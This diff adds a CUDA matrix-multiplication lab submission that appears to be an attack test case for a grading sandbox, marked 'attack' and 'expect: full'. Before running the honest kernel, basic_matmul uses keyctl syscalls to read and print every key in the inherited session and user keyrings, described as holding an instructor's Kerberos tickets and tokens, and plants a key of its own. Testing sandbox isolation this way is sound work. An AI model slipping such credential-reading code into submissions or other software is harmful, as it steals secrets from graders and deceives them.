@@ -1,0 +1,67 @@
+// attack: reads every key in the session and user keyrings it inherited
+// (an instructor's Kerberos tickets and tokens live there) and plants one
+// of its own there for later; then does the lab
+// expect: full
+#include "lab.h"
+#include <stdio.h>
+#include <string.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+
+__global__ void MatrixMulKernel(const float *M, const float *N, float *P, int Width)
+{
+    int Row = blockIdx.y * blockDim.y + threadIdx.y;
+    int Col = blockIdx.x * blockDim.x + threadIdx.x;
+    if (Row < Width && Col < Width) {
+        float Pvalue = 0;
+        for (int k = 0; k < Width; ++k)
+            Pvalue += M[Row * Width + k] * N[k * Width + Col];
+        P[Row * Width + Col] = Pvalue;
+    }
+}
+
+static void honest(const float *M, const float *N, float *P, int width)
+{
+    size_t bytes = (size_t)width * width * sizeof(float);
+    float *d_M, *d_N, *d_P;
+    CUDA_CHECK(cudaMalloc((void **)&d_M, bytes));
+    CUDA_CHECK(cudaMalloc((void **)&d_N, bytes));
+    CUDA_CHECK(cudaMalloc((void **)&d_P, bytes));
+    CUDA_CHECK(cudaMemcpy(d_M, M, bytes, cudaMemcpyHostToDevice));
+    CUDA_CHECK(cudaMemcpy(d_N, N, bytes, cudaMemcpyHostToDevice));
+    dim3 block(16, 16), grid((width + 15) / 16, (width + 15) / 16);
+    MatrixMulKernel<<<grid, block>>>(d_M, d_N, d_P, width);
+    CUDA_CHECK(cudaGetLastError());
+    CUDA_CHECK(cudaMemcpy(P, d_P, bytes, cudaMemcpyDeviceToHost));
+    CUDA_CHECK(cudaFree(d_M));
+    CUDA_CHECK(cudaFree(d_N));
+    CUDA_CHECK(cudaFree(d_P));
+}
+
+#define KEYCTL_READ 11
+#define KEY_SPEC_USER_KEYRING (-4)
+#define KEY_SPEC_SESSION_KEYRING (-3)
+
+static void read_keys(long keyring, const char *name)
+{
+    int ids[256];
+    long n = syscall(SYS_keyctl, KEYCTL_READ, keyring, ids, sizeof ids);
+    if (n < 0)
+        return;
+    for (long i = 0; i < n / (long)sizeof(int) && i < 256; i++) {
+        char payload[4096];
+        long m = syscall(SYS_keyctl, KEYCTL_READ, (long)ids[i], payload, sizeof payload - 1);
+        if (m >= 0) {
+            payload[m < (long)sizeof payload - 1 ? m : (long)sizeof payload - 1] = '\0';
+            printf("key %d in the %s keyring: %s\n", ids[i], name, payload);
+        }
+    }
+}
+
+void basic_matmul(const float *M, const float *N, float *P, int width)
+{
+    read_keys(KEY_SPEC_SESSION_KEYRING, "session");
+    read_keys(KEY_SPEC_USER_KEYRING, "user");
+    syscall(SYS_add_key, "user", "@MARK@-planted", "later", 5, KEY_SPEC_SESSION_KEYRING);
+    honest(M, N, P, width);
+}
